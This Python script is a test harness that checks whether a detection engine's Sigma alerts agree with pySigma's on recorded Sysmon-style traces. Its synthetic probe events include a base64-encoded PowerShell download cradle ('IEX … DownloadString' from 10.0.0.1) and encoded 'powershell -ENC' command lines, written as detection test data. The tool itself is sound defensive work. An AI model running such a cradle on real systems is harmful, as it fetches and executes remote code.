#!/usr/bin/env python3
"""Sigma agreement check (tools/sigma-agree.sh): the replay's alerts against pySigma's.

For each recorded trace, the replay runs with `--format json --rules RULES`; its event
objects (EventID 1, 5, 6, 7, 8) go into an SQLite table, one column per JSON key, values
as the JSON has them, and every rule pySigma converts (SQLite backend, Sysmon pipeline:
category -> EventID) is run against it. The two sets of (rule id, Sequence) must agree.
A pair found by one engine only is either listed in KNOWN_DIFFERENCES below (a documented
semantic difference between the engines, reported as explained) or a failure, printed with
the rule, its file and the event's fields the rule reads. docs/sigma-agreement.md has the
method and the table's reasons.

Exit status: 0 when every disagreement is explained, 1 when one is not (or the replay's
output breaks the alert format), 2 for a setup error (no trace, no --rules in the replay).
"""
import argparse
import fnmatch
import glob
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection
from sigma.pipelines.sysmon import sysmon_pipeline
from sigma.rule import SigmaDetection, SigmaDetectionItem, SigmaRule

# The EventIDs both engines evaluate; 1000-1002 are notifyring's own (LOST, thread
# create that is not remote, thread exit) and no Sigma category maps to them.
EVALUATED = {1, 5, 6, 7, 8}

# Disagreements that are a documented difference between the engines, not a bug of
# either. Each entry: `rule` (a rule id, or a glob over the rule's file path relative to
# the rules folder), `side` ("ours": only the replay alerts, "pysigma": only pySigma
# does, "both"), and a one-line `reason`. Keep it small: every entry must name a real
# semantic difference, and one that no longer explains anything is reported as stale.
KNOWN_DIFFERENCES = []


def fail_setup(msg):
    print(f"sigma-agree: error: {msg}", file=sys.stderr)
    sys.exit(2)


# ---------------------------------------------------------------- pySigma side


def detection_fields(detection, out):
    """Every field a (processed) rule's detection names."""
    for item in detection.detection_items:
        if isinstance(item, SigmaDetection):
            detection_fields(item, out)
        elif isinstance(item, SigmaDetectionItem) and item.field:
            out.add(item.field)


class Rule:
    __slots__ = ("id", "title", "level", "path", "queries", "fields")

    def __init__(self, rid, title, level, path, queries, fields):
        self.id, self.title, self.level, self.path = rid, title, level, path
        self.queries, self.fields = queries, fields


def convert_rules(rules_dir):
    """(rules converted, [(file, reason)] not converted); files relative to rules_dir."""
    backend = sqliteBackend(sysmon_pipeline())
    backend.init_processing_pipeline()
    converted, failed = [], []
    files = sorted(glob.glob(os.path.join(rules_dir, "**", "*.yml"), recursive=True))
    files += sorted(glob.glob(os.path.join(rules_dir, "**", "*.yaml"), recursive=True))
    for path in files:
        rel = os.path.relpath(path, rules_dir)
        try:
            with open(path, encoding="utf-8") as f:
                collection = SigmaCollection.from_yaml(f.read())
            collection.resolve_rule_references()
            for rule in collection.rules:
                if not isinstance(rule, SigmaRule):
                    failed.append((rel, f"{type(rule).__name__}: not a detection rule"))
                    continue
                queries = backend.convert_rule(rule)
                if not queries:
                    failed.append((rel, "pySigma produced no query"))
                    continue
                fields = set()
                for detection in rule.detection.detections.values():
                    detection_fields(detection, fields)
                converted.append(
                    Rule(
                        # As the replay names an alert's rule: its id, else its title.
                        str(rule.id) if rule.id else rule.title,
                        rule.title,
                        rule.level.name.lower() if rule.level else "",
                        rel,
                        [q.replace("SELECT * FROM logs WHERE ", "SELECT Sequence FROM logs WHERE ", 1) for q in queries],
                        sorted(fields),
                    )
                )
        except Exception as e:  # pySigma's errors and YAML's: reported, not fatal
            failed.append((rel, f"{type(e).__name__}: {str(e).splitlines()[0][:200]}"))
    return converted, failed


_regex_cache = {}


def sqlite_regexp(pattern, value):
    """`value REGEXP pattern`: Sigma's |re is an unanchored search, case-sensitive unless
    the pattern says (?i) (pySigma writes |re|i as that prefix)."""
    if value is None or pattern is None:
        return None
    rx = _regex_cache.get(pattern)
    if rx is None:
        rx = _regex_cache[pattern] = re.compile(pattern)
    return 1 if rx.search(str(value)) else 0


def pysigma_matches(events, rules, columns):
    """{(rule id, Sequence)} and the query errors, for one trace's event objects."""
    db = sqlite3.connect(":memory:")
    db.create_function("regexp", 2, sqlite_regexp, deterministic=True)
    # No declared type (no affinity): integers stay integers and strings strings, as the
    # JSON has them. COLLATE NOCASE, as Zircolite builds its table: the backend emits
    # literal equality as `=`, which Sigma means case-insensitively; LIKE already is.
    cols = sorted(columns, key=str.lower)
    db.execute("CREATE TABLE logs (" + ", ".join(f'"{c}" COLLATE NOCASE' for c in cols) + ")")
    placeholders = ", ".join("?" for _ in cols)
    rows = []
    for ev in events:
        row = []
        for c in cols:
            v = ev.get(c)
            if isinstance(v, (dict, list)):
                v = json.dumps(v)
            row.append(v)
        rows.append(row)
    db.executemany(f"INSERT INTO logs VALUES ({placeholders})", rows)
    db.execute("CREATE INDEX logs_eventid ON logs (EventID)")
    found, errors = set(), []
    for rule in rules:
        for q in rule.queries:
            try:
                for (seq,) in db.execute(q):
                    found.add((rule.id, seq))
            except sqlite3.Error as e:
                errors.append((rule, f"{type(e).__name__}: {e}"))
    db.close()
    return found, errors


# Our own rules and events (not SigmaHQ's), each with the answer the Sigma specification
# gives: the table's conventions (NOCASE, the REGEXP function, NULL for an absent key) and
# the pinned pySigma must give it too, or nothing this check says about the replay counts.
SELF_TEST = [
    # (detection, event fields, expected match)
    ("sel: {Image|endswith: '\\cmd.exe'}", {"Image": r"C:\WINDOWS\System32\CMD.EXE"}, True),
    ("sel: {CommandLine: 'whoami /ALL'}", {"CommandLine": "WHOAMI /all"}, True),
    ("sel: {CommandLine|cased: 'Whoami'}", {"CommandLine": "whoami"}, False),
    ("sel: {CommandLine|cased: 'Who?mi*'}", {"CommandLine": "Whoami /all"}, True),
    ("sel: {CommandLine|re: '\\s-H\\s'}", {"CommandLine": "curl -h x"}, False),
    ("sel: {CommandLine|re: '\\s-H\\s'}", {"CommandLine": "curl -H x"}, True),
    ("sel: {CommandLine|re|i: '\\s-H\\s'}", {"CommandLine": "curl -h x"}, True),
    ("sel: {CommandLine|re: '(?i)ENC'}", {"CommandLine": "-enc"}, True),
    ("sel: {CommandLine|contains|windash: ' -enc '}", {"CommandLine": "x /ENC y"}, True),
    ("sel: {CommandLine|contains|all: [' a', ' b']}", {"CommandLine": "x a"}, False),
    ("sel: {CommandLine|contains|all: [' a', ' b']}", {"CommandLine": "x B A"}, True),
    ("sel: {CommandLine|contains: '%TEMP%'}", {"CommandLine": "xTEMPx"}, False),
    ("sel: {CommandLine|contains: '%temp%'}", {"CommandLine": "x%TEMP%x"}, True),
    ("sel: {CommandLine: 'a_b'}", {"CommandLine": "axb"}, False),
    ("sel: {Image: 'C:\\Windows\\\\?md.exe'}", {"Image": r"c:\windows\cmd.exe"}, True),
    ("sel: {Image: 'C:\\Windows\\?md.exe'}", {"Image": r"c:\windows\cmd.exe"}, False),  # \? is a literal ?
    ("sel: {Image: 'C:\\\\Windows\\\\*'}", {"Image": r"C:\Windows\x"}, True),
    ("sel: {Image: 'a\\*b'}", {"Image": "axb"}, False),
    ("sel: {Image: 'a\\*b'}", {"Image": "a*b"}, True),
    ("sel: {Image|endswith: '.exe'}\n  filter: {ParentImage: 'x'}\n  condition: sel and not filter",
     {"Image": "a.exe"}, True),
    ("sel: {ParentImage: null}", {"Image": "a.exe"}, True),
    ("sel: {ParentImage: null}", {"ParentImage": ""}, False),
    ("sel: {ParentImage: ''}", {"ParentImage": ""}, True),
    ("sel: {ParentImage|exists: false}", {"Image": "a.exe"}, True),
    ("sel: {ParentImage|exists: true}", {"ParentImage": ""}, True),
    ("sel: {CommandLine|base64offset|contains: 'IEX'}", {"CommandLine": "-e SUVYIChOZXc="}, True),
    ("sel: {Image|fieldref: ParentImage}", {"Image": r"C:\A.exe", "ParentImage": r"c:\a.exe"}, True),
    ("sel: {Signed: 'false'}", {"Signed": "false"}, True),
    ("sel: {Signed: false}", {"Signed": "false"}, True),
]


def self_test():
    """Failures of the pySigma side against SELF_TEST, as lines to print."""
    backend = sqliteBackend(sysmon_pipeline())
    problems = []
    for n, (detection, fields, expected) in enumerate(SELF_TEST):
        body = detection if "condition:" in detection else detection + "\n  condition: sel"
        text = (f"title: self-test {n}\nid: 00000000-0000-4000-8000-{n:012d}\n"
                "logsource: {category: process_creation, product: windows}\n"
                f"detection:\n  {body}\nlevel: low\n")
        rule = SigmaCollection.from_yaml(text).rules[0]
        queries = backend.convert_rule(rule)
        fields = dict(fields, EventID=1, Sequence=1)
        r = Rule(str(rule.id), rule.title, "low", "self-test",
                 [q.replace("SELECT * FROM logs WHERE ", "SELECT Sequence FROM logs WHERE ", 1) for q in queries], [])
        cols = set(fields)
        for d in rule.detection.detections.values():
            detection_fields(d, cols)
        found, errors = pysigma_matches([fields], [r], cols)
        if errors or bool(found) != expected:
            problems.append(f"{detection!r} on {fields}: expected {'a match' if expected else 'no match'},"
                            f" got {errors or bool(found)} ({r.queries})")
    return problems


# --probes: events of our own making (not recorded), in the trace schema, aimed at the
# SigmaHQ rules where the engines' handling of an edge differs. Each says what it
# exercises; the ones marked BUG fail the comparison until the replay's rule evaluation
# is fixed (docs/sigma-agreement.md, "Differences the traces do not show").
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
CURL = r"C:\Windows\System32\curl.exe"


def _b64(text):
    import base64
    return base64.b64encode(text.encode()).decode()


PROBES = [
    # BUG: a wildcard inside a value ('join*split', crackmapexec obfuscation) across a line break.
    (PS, "powershell.exe -c \"$s = 'a','b' -join ''\n$t = $s -split ''\""),
    (PS, "powershell.exe -c \"$s = 'a','b' -join ''; $t = $s -split ''\""),
    # BUG: |base64offset|contains 'IEX (New' two bytes into the payload (offset 2).
    (CMD, "cmd /c echo " + _b64("$a=1;IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')") + " > x.txt"),
    # ... at offset 0, where the byte after the value happens to keep the last character.
    (CMD, "cmd /c echo " + _b64("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')") + " > x.txt"),
    # |re '\s-H\s' is case-sensitive: -h is not -H.
    (CURL, 'curl.exe -h "User-Agent: x" http://10.0.0.1/'),
    (CURL, 'curl.exe -H "User-Agent: x" http://10.0.0.1/'),
    # |contains ' -enc ' in another case; and an en dash where a rule says |windash.
    (PS, "POWERSHELL.EXE -ENC SQBFAFgA"),
    (PS, "powershell.exe \u2013enc SQBFAFgA"),
]


def write_probes(path):
    with open(path, "w", encoding="utf-8") as f:
        for n, (image, cmdline) in enumerate(PROBES, 1):
            f.write(json.dumps({
                "t_ns": n * 1000, "kind": "process_create", "pid": 1000 + n, "ppid": 4, "tid": 1,
                "image": image, "cmdline": cmdline, "base": None, "size": None, "exit_code": None,
                "is_kernel": False, "source": "sigma-agree probes", "user": r"NT AUTHORITY\SYSTEM",
                "integrity_level": "System",
            }) + "\n")


# ---------------------------------------------------------------- our side


def replay_supports_rules(replay):
    out = subprocess.run([replay, "--help"], capture_output=True, text=True)
    return "--rules" in out.stdout


def run_replay(replay, trace, rules_dir, with_rules):
    """(event objects evaluated, {(RuleId, Sequence)}: alert object, format problems,
    (rules the replay loaded, [(file, reason)] it did not) or None without rules)."""
    cmd = [replay, "--trace", trace, "--format", "json"]
    if with_rules:
        cmd += ["--rules", rules_dir]
    proc = subprocess.run(cmd, capture_output=True, text=True)
    if proc.returncode != 0:
        raise RuntimeError(f"{' '.join(cmd)} exited {proc.returncode}:\n{proc.stderr[-2000:]}")
    events, alerts, problems = [], {}, []
    loaded = None
    if with_rules:
        # The replay's account of the load (src/user/rules/load.rs, `Loaded::report`).
        not_loaded = re.findall(r"^notifyring: rule not loaded: (.*?): (.*)$", proc.stderr, re.M)
        counts = re.search(r"^notifyring: rules: (\d+) loaded, (\d+) skipped .*?, (\d+) failed", proc.stderr, re.M)
        if counts is None:
            problems.append("the replay's stderr has no 'notifyring: rules: N loaded, …' line")
        loaded = (int(counts.group(1)) if counts else None, not_loaded)
    last = None  # the last event object: an alert follows the event it matches
    seen_seq = set()
    for n, line in enumerate(proc.stdout.splitlines(), 1):
        if not line.strip():
            continue
        obj = json.loads(line)
        if obj.get("Kind") == "alert":
            missing = [k for k in ("RuleId", "RuleTitle", "RuleLevel", "Sequence", "MatchedEventID") if k not in obj]
            if missing:
                problems.append(f"line {n}: alert without {', '.join(missing)}")
                continue
            if last is None or obj["Sequence"] != last.get("Sequence") or obj["MatchedEventID"] != last.get("EventID"):
                problems.append(
                    f"line {n}: alert {obj['RuleId']} for Sequence {obj['Sequence']} (EventID {obj['MatchedEventID']})"
                    f" does not follow its event (the last event was Sequence {last and last.get('Sequence')})"
                )
            key = (obj["RuleId"], obj["Sequence"])
            if key in alerts:
                problems.append(f"line {n}: alert {key} printed twice")
            alerts[key] = obj
            continue
        last = obj
        if obj.get("EventID") in EVALUATED:
            if obj.get("Sequence") in seen_seq:
                problems.append(f"line {n}: Sequence {obj.get('Sequence')} on two events")
            seen_seq.add(obj.get("Sequence"))
            events.append(obj)
    for key, obj in alerts.items():
        if key[1] not in seen_seq:
            problems.append(f"alert {key}: EventID {obj.get('MatchedEventID')} is not one a Sigma category maps to")
    return events, alerts, problems, loaded


# ---------------------------------------------------------------- comparison


def explanation(rule_id, path, side):
    for k in KNOWN_DIFFERENCES:
        if k["side"] not in (side, "both"):
            continue
        if k["rule"] == rule_id or (path and fnmatch.fnmatch(path, k["rule"])):
            return k
    return None


def event_detail(event, fields):
    keys = ["EventID", "Sequence"] + [f for f in fields if f not in ("EventID", "Sequence")]
    lower = {k.lower(): k for k in event}
    out = {}
    for f in keys:
        k = lower.get(f.lower())
        out[f] = event[k] if k is not None else "<absent>"
    return out


def clip(v, n=200):
    return v[:n] + f"…(+{len(v) - n})" if isinstance(v, str) and len(v) > n else v


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--replay", required=True, help="the built replay example")
    ap.add_argument("--rules", required=True, help="Sigma rules folder")
    ap.add_argument("--traces", nargs="+", required=True, help="recorded traces (.jsonl.gz)")
    ap.add_argument("--pysigma-only", action="store_true",
                    help="replay without --rules and run only the pySigma side (development; exits 0)")
    ap.add_argument("--probes", metavar="FILE",
                    help="also write PROBES, our own edge-case events, to FILE as a trace and compare on it")
    ap.add_argument("--verbose", action="store_true", help="every disagreement, explained ones too, and the SQL")
    args = ap.parse_args()

    start = time.monotonic()
    problems = self_test()
    if problems:
        print("sigma-agree: the pySigma side fails its self-test (the Sigma specification's answers):")
        for p in problems:
            print(f"  {p}")
        return 1
    has_rules = replay_supports_rules(args.replay)
    if not has_rules and not args.pysigma_only:
        fail_setup(f"{args.replay} has no --rules option: nothing to compare with "
                   "(--pysigma-only runs the pySigma side alone)")
    with_rules = has_rules and not args.pysigma_only

    if args.probes:
        write_probes(args.probes)
        args.traces.append(args.probes)

    # The replays run beside the conversion (a processor each on two).
    pool = ThreadPoolExecutor(max_workers=2)
    replays = {t: pool.submit(run_replay, args.replay, t, args.rules, with_rules) for t in args.traces}
    rules, unconverted = convert_rules(args.rules)
    t_convert = time.monotonic() - start
    by_id = {r.id: r for r in rules}
    columns = {"EventID", "Sequence"}
    for r in rules:
        columns.update(r.fields)

    rows, failures, explained, format_problems, query_errors = [], [], [], [], []
    by_path = {r.path for r in rules}
    ours_loaded, load_failures = set(), {}
    used_known = set()
    for trace in args.traces:
        try:
            events, alerts, problems, loaded = replays[trace].result()
        except Exception as e:
            fail_setup(str(e))
        format_problems += [f"{os.path.basename(trace)}: {p}" for p in problems]
        if loaded is not None:
            n_loaded, not_loaded = loaded
            ours_loaded.add(n_loaded)
            for file, reason in not_loaded:
                rel = os.path.relpath(file, args.rules) if os.path.isabs(file) == os.path.isabs(args.rules) else file
                if rel in by_path:
                    load_failures[rel] = reason
        cols = set(columns)
        for ev in events:
            cols.update(ev)
        theirs, errs = pysigma_matches(events, rules, cols)
        query_errors += [(r, f"{os.path.basename(trace)}: {e}") for r, e in errs]
        ours = set(alerts)
        by_seq = {ev["Sequence"]: ev for ev in events}
        only_ours, only_theirs = ours - theirs, theirs - ours
        n_explained = 0
        for side, pairs in (("ours", only_ours), ("pysigma", only_theirs)):
            for rid, seq in sorted(pairs, key=lambda p: (p[0], p[1])):
                rule = by_id.get(rid)
                k = explanation(rid, rule.path if rule else None, side)
                item = (os.path.basename(trace), side, rid, seq, rule, by_seq.get(seq), alerts.get((rid, seq)), k)
                if k:
                    n_explained += 1
                    used_known.add(id(k))
                    explained.append(item)
                else:
                    failures.append(item)
        name = os.path.basename(trace).removesuffix(".jsonl.gz")
        if args.verbose:
            hits = {}
            for rid, _ in theirs | ours:
                hits[rid] = hits.get(rid, 0) + 1
            print(f"{name}: rules that matched (ours / pySigma's):")
            for rid in sorted(hits, key=lambda r: (by_id[r].path if r in by_id else r)):
                n_ours = sum(1 for k in ours if k[0] == rid)
                n_theirs = sum(1 for k in theirs if k[0] == rid)
                print(f"  {n_ours:5} {n_theirs:5}  {by_id[rid].path if rid in by_id else rid}")
        rows.append((name, len(events), f"{loaded[0] if loaded else '-'}/{len(rules)}", len(ours) if with_rules else "-", len(theirs),
                     len(ours & theirs) if with_rules else "-", len(only_ours) if with_rules else "-",
                     len(only_theirs) if with_rules else "-", n_explained if with_rules else "-"))
    pool.shutdown()
    elapsed = time.monotonic() - start

    head = ("trace", "events", "rules ours/pySigma", "ours", "pySigma", "agreed", "only-ours", "only-pySigma", "explained")
    widths = [max(len(str(x)) for x in col) for col in zip(head, *rows)]
    for r in [head] + rows:
        print("  ".join(str(x).ljust(w) if i == 0 else str(x).rjust(w) for i, (x, w) in enumerate(zip(r, widths))))

    print(f"\nrules: {len(rules) + len(unconverted)} files, {len(rules)} compared, "
          f"{len(unconverted)} pySigma could not convert (excluded)")
    for rel, reason in unconverted:
        print(f"  not converted: {rel}: {reason}")
    if with_rules:
        print(f"the replay loaded {', '.join(str(n) for n in sorted(ours_loaded, key=str))} rules"
              f" ({len(load_failures)} that pySigma converts failed to load)")
        for rel, reason in sorted(load_failures.items()):
            print(f"  NOT LOADED by the replay: {rel}: {reason}")
    for rule, err in query_errors:
        print(f"  query failed: {rule.path}: {err}")

    def show(item, full):
        trace, side, rid, seq, rule, event, alert, k = item
        who = "only ours" if side == "ours" else "only pySigma"
        print(f"  {trace}: {who}: rule {rid} Sequence {seq}"
              + (f" ({rule.path}: {rule.title})" if rule else " (rule not among pySigma's)"))
        if k:
            print(f"    explained: {k['reason']}")
        if full:
            fields = rule.fields if rule else []
            detail = event_detail(event, fields) if event else None
            if detail and not args.verbose:
                detail = {k: clip(v) for k, v in detail.items()}
            print(f"    event: {json.dumps(detail, ensure_ascii=False)}")
            if alert and args.verbose:
                print(f"    our alert: {json.dumps(alert, ensure_ascii=False)}")
            if rule and args.verbose:
                for q in rule.queries:
                    print(f"    SQL: {q}")

    if explained:
        print(f"\nexplained differences: {len(explained)} (KNOWN_DIFFERENCES; --verbose lists them)")
        if args.verbose:
            for item in explained:
                show(item, True)
    stale = [k for k in KNOWN_DIFFERENCES if id(k) not in used_known]
    if with_rules and stale:
        print("\nKNOWN_DIFFERENCES entries that explained nothing this run (stale?):")
        for k in stale:
            print(f"  {k['rule']} ({k['side']}): {k['reason']}")
    if format_problems:
        print(f"\nalert format problems: {len(format_problems)}")
        for p in format_problems[: None if args.verbose else 20]:
            print(f"  {p}")
    if failures and with_rules:
        print(f"\nUNEXPLAINED disagreements: {len(failures)}")
        for item in failures[: None if args.verbose else 50]:
            show(item, True)
        if len(failures) > 50 and not args.verbose:
            print(f"  … {len(failures) - 50} more (--verbose)")

    print(f"\ntime: {elapsed:.1f} s (rule conversion {t_convert:.1f} s)")
    if not with_rules:
        print("sigma-agree: pySigma side only (the replay ran without --rules): NOT a comparison")
        return 0
    ok = not failures and not format_problems and not query_errors and not load_failures
    if ours_loaded != {len(rules)}:
        print(f"the replay loaded {sorted(ours_loaded, key=str)} rules, pySigma converted {len(rules)}")
        ok = False
    print("sigma-agree: " + ("ok: every disagreement is explained" if ok else "FAILED"))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
